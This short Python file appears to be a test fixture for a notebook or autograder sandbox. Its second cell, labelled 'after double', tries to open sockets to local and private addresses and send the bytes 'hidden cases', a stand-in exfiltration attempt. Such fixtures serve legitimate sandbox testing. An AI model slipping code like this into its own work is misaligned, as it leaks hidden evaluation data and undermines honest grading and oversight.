"""Calls home with what it finds."""

DESERVES = {"double": 2}
CELLS = {
    "double": r"""
def double(x):
    return 2 * x
""",
    "after double": r"""
import socket, urllib.request
for address in (("127.0.0.1", 9), ("10.255.255.1", 80)):
    try: socket.create_connection(address, timeout=0.3).send(b"hidden cases")
    except OSError: pass
""",
}
